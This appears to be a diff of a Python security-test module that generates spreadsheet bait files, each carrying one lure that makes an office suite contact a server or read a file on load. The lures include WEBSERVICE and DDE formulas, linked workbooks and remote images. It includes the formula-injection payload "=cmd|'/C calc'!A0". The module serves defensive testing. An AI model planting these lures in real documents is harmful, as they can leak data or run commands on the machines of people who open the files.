@@ -31,22 +31,24 @@ def macro(trace):
 
 
 def formulas(server, file):
+    """One workbook for each formula that reaches out when it is computed."""
     lures = [f'of:=COM.MICROSOFT.WEBSERVICE(&quot;{server}/webservice&quot;)', f"of:=['{server}/linked.ods'#$表.A1]",
              f"of:=['{file}'#$表.A1]", f'of:=DDE(&quot;soffice&quot;;&quot;{file}&quot;;&quot;表.A1&quot;)',
              f'of:=HYPERLINK(&quot;{server}/hyperlink&quot;)']
-    cells = [f'<table:table-cell table:formula="{lure}" office:value-type="string"><text:p>kept</text:p></table:table-cell>'
-             for lure in lures]
-    return zipped(ods_parts(ods_content([*TABLE, cells])))
+    for name, lure in zip(("webservice", "linked-server", "linked-file", "dde", "hyperlink"), lures):
+        cell = f'<table:table-cell table:formula="{lure}" office:value-type="string"><text:p>kept</text:p></table:table-cell>'
+        yield f"formula-{name}.ods", zipped(ods_parts(ods_content([*TABLE, [cell]])))
 
 
-def objects(server, *_):
-    shown = "".join(f'<draw:frame svg:width="1cm" svg:height="1cm" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:'
-                    f'svg-compatible:1.0"><draw:{kind} xlink:href="{server}/{kind}" xlink:type="simple" xlink:show="embed" '
-                    f'xlink:actuate="onLoad"/></draw:frame>' for kind in ("image", "object", "object-ole", "plugin", "floating-frame"))
-    return zipped(ods_parts(ods_content(TABLE, in_table=f"<table:shapes>{shown}</table:shapes>")))
+def objects(server):
+    for kind in ("image", "object", "object-ole", "plugin", "floating-frame"):
+        shown = (f'<draw:frame svg:width="1cm" svg:height="1cm" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:'
+                 f'svg-compatible:1.0"><draw:{kind} xlink:href="{server}/{kind}" xlink:type="simple" xlink:show="embed" '
+                 f'xlink:actuate="onLoad"/></draw:frame>')
+        yield f"{kind}.ods", zipped(ods_parts(ods_content(TABLE, in_table=f"<table:shapes>{shown}</table:shapes>")))
 
 
-def sources(server, *_):
+def sources(server):
     """A sheet that is another file's, an area that is another file's, an area that a database fills."""
     sheet = f'<table:table-source xlink:type="simple" xlink:href="{server}/sheet.ods" table:table-name="表" table:refresh-delay="PT1S"/>'
     area = (f'<table:table-cell office:value-type="string"><table:cell-range-source table:name="a" xlink:type="simple" '
@@ -55,41 +57,50 @@ def sources(server, *_):
     database = ('<table:database-ranges><table:database-range table:name="db" table:target-range-address="表.A9:表.B10" '
                 'table:refresh-delay="PT1S"><table:database-source-table table:database-name="Bibliography" '
                 'table:database-table-name="biblio"/></table:database-range></table:database-ranges>')
-    return zipped(ods_parts(ods_content([*TABLE, [area]], in_table=sheet, after=database)))
+    yield "sheet.ods", zipped(ods_parts(ods_content(TABLE, in_table=sheet)))
+    yield "area.ods", zipped(ods_parts(ods_content([*TABLE, [area]])))
+    yield "database.ods", zipped(ods_parts(ods_content(TABLE, after=database)))
 
 
-def flat(server, *_):
+def flat(server):
     linked = f'<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;{server}/flat&quot;)" office:value-type="string"/>'
     return ods_content([*TABLE, [linked]], root="document").encode()
 
 
-def excel(server, file):
-    """Formulas, a linked workbook, a linked picture, a query table's connection."""
+def excel(server):
+    """One workbook for each formula, a linked workbook, a linked picture."""
+    lures = {"webservice": f'=_xlfn.WEBSERVICE("{server}/excel")', "dde": "=cmd|'/C calc'!A0"}
+    for name, lure in lures.items():
+        yield f"excel-{name}.xlsx", zipped(xlsx_parts([xlsx_sheet([*TABLE, [lure]])]))
     book = f'{HEAD}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OFFICE}">' \
         '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
+    yield "excel-book.xlsx", zipped(xlsx_parts(
+        [xlsx_sheet([*TABLE, ["=[1]S!A1"]])], in_book='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
+        of_book=[relation(9, "externalLink", "externalLinks/externalLink1.xml")], more={
+            "xl/externalLinks/externalLink1.xml": book,
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(relation(1, "externalLinkPath", f"{server}/book.xlsx", True))}))
     drawing = (f'{HEAD}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a='
                f'"http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{OFFICE}"><xdr:oneCellAnchor><xdr:from><xdr:col>0'
                '</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="9" cy="9"/>'
                '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId1"/>'
                '</xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>')
-    lures = [f'=_xlfn.WEBSERVICE("{server}/excel")', "=[1]S!A1", f"='{file}'#S.A1", "=cmd|'/C calc'!A0"]
-    sheet = xlsx_sheet([*TABLE, lures], after='<drawing r:id="rId1"/>')
-    return zipped(xlsx_parts([sheet], in_book='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
-                             of_book=[relation(9, "externalLink", "externalLinks/externalLink1.xml")], more={
-        "xl/externalLinks/externalLink1.xml": book,
-        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(relation(1, "externalLinkPath", f"{server}/book.xlsx", True)),
+    yield "excel-picture.xlsx", zipped(xlsx_parts([xlsx_sheet(TABLE, after='<drawing r:id="rId1"/>')], more={
         "xl/worksheets/_rels/sheet1.xml.rels": relations(relation(1, "drawing", "../drawings/drawing1.xml")),
         "xl/drawings/drawing1.xml": drawing,
         "xl/drawings/_rels/drawing1.xml.rels": relations(relation(1, "image", f"{server}/picture.png", True))}))
 
 
-def text(server, *_):
+def text(server):
     lines = [",".join(row) for row in TABLE] + [f'"=WEBSERVICE(""{server}/text"")","=DDE(""soffice"";""x"";""y"")",=1+1,@SUM(A1),+1']
     return "\n".join(lines).encode()
 
 
+# What LibreOffice 7.4 leaves alone on loading even where it may do all: it waits for a click, a visible window, a database, or
+# a server of DDE. Another version may not, so they are submitted, too.
+NOT_FOLLOWED = {"formula-hyperlink.ods", "plugin.ods", "floating-frame.ods", "database.ods", "area.ods", "excel-dde.xlsx"}
+
+
 def all_baits(server, trace, file):
-    """{file name: content}. `server` and `file` are URLs to connect to or to read, `trace` a path to write to."""
-    return {"macro.ods": macro(trace), "macro.xlsx": macro(trace), "formulas.ods": formulas(server, file),
-            "objects.ods": objects(server), "sources.ods": sources(server), "flat.fods": flat(server),
-            "excel.xlsx": excel(server, file), "excel.xlsm.xlsx": excel(server, file), "text.csv": text(server)}
+    """{file name: content}, one lure a file. `server` and `file` are URLs to connect to or to read, `trace` a path to write to."""
+    return {"macro.ods": macro(trace), "macro.xlsx": macro(trace), **dict(formulas(server, file)), **dict(objects(server)),
+            **dict(sources(server)), "flat.fods": flat(server), **dict(excel(server)), "text.csv": text(server)}
